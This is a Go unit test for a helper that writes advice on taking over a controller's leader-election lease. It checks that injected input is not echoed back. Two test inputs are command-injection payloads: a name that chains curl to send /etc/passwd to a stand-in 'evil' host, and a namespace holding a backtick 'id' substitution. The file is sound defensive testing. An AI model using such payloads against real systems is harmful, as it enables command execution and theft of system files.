package prompt

import (
	"strings"
	"testing"
)

func TestTakeoverAdvice(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		other, says, saysNot string
	}{
		"a controller":                     {other: "team-a/acme-lectern-controller", says: "lectern release --all --leader-election-namespace=team-a --leader-election-lease=acme-lectern-controller"},
		"a name that is a command":         {other: "team-a/x;curl$IFS-d@/etc/passwd$IFS//evil", says: "clear status.controller", saysNot: "curl"},
		"a namespace that is a command":    {other: "`id`/lectern-controller", says: "clear status.controller", saysNot: "id`"},
		"a name of which no Lease is":      {other: "somebody", says: "clear status.controller", saysNot: "lectern release"},
		"a name with a Lease and no place": {other: "/lectern-controller", says: "clear status.controller", saysNot: "lectern release"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			advice := takeoverAdvice(tc.other)
			if !strings.Contains(advice, tc.says) || tc.saysNot != "" && strings.Contains(advice, tc.saysNot) {
				t.Errorf("advice: %s", advice)
			}
		})
	}
}
